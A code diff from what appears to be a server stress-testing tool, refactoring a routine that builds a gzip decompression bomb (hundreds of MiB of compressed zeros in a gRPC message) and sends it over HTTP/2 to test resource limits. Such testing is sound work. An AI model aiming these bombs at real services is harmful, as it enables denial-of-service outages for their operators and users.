@@ -8,7 +8,7 @@ from collections.abc import Mapping
 from dataclasses import dataclass, replace
 from typing import Any, Final
 
-from slipway.attack import http2
+from slipway.attack import http2, http2_call
 from slipway.attack.bounds import MIB
 from slipway.attack.compressed import packed
 from slipway.attack.group import AttackGroup, AttackRun, Need
@@ -19,7 +19,6 @@ from slipway.attack.rpc_client import RpcReply, message, rpc_client
 
 _BLOCK: Final = 16 * MIB
 _BLOCKS: Final = 32
-_FRAME: Final = 16_384
 _MANY: Final = 1_000_000
 _VERSIONS: Final = 100
 _LONG_VERSION: Final = 1 * MIB
@@ -162,25 +161,14 @@ async def _bombs(run: AttackRun) -> None:
     del good.raw_input_contents[:]
     raw = b"\x3a" + _varint(_BLOCKS * _BLOCK)  # the field raw_input_contents
     body = await asyncio.to_thread(packed, "gzip", good.SerializeToString() + raw, bytes(_BLOCK), _BLOCKS)
-    coding = http2.literal(b"grpc-encoding", b"gzip")
-    call = http2.opening() + b"".join(
-        http2.frame(http2.HEADERS, http2.END_HEADERS, stream, http2.head(http2.INFER) + coding)
-        + _data(stream, b"\1" + struct.pack(">I", len(body)) + body)
-        for stream in (1, 3)
-    )
+    block = http2.head(http2.INFER) + http2.literal(b"grpc-encoding", b"gzip")
 
-    async def attempt(data: bytes) -> str:
+    async def attempt(sent: bytes) -> str:
         async with run.rpc.connection() as connection:
-            received = await connection.exchange(data, silence_s=min(2.0, run.bounds.response_s))
-        return "" if received.data or received.closed else "neither a response nor the end of the connection"
+            return await http2_call.call(connection, block, sent, patience_s=run.bounds.response_s)
 
-    await run.each([("two calls", call)], attempt)
-
-
-def _data(stream: int, message_bytes: bytes) -> bytes:
-    parts = [message_bytes[at : at + _FRAME] for at in range(0, len(message_bytes), _FRAME)]
-    ends = [0] * (len(parts) - 1) + [http2.END_STREAM]
-    return b"".join(http2.frame(http2.DATA, end, stream, part) for end, part in zip(ends, parts, strict=True))
+    bomb = b"\1" + struct.pack(">I", len(body)) + body
+    await run.each(((f"number {number}", bomb) for number in range(2)), attempt, at_once=1)
 
 
 async def _metadata(run: AttackRun) -> None:
@@ -289,7 +277,7 @@ GROUPS: Final = (
         _bombs,
         (Need.GRPC,),
         kept_mib=256,
-        peak_mib=512,
+        peak_mib=384,
     ),
     AttackGroup(
         61,
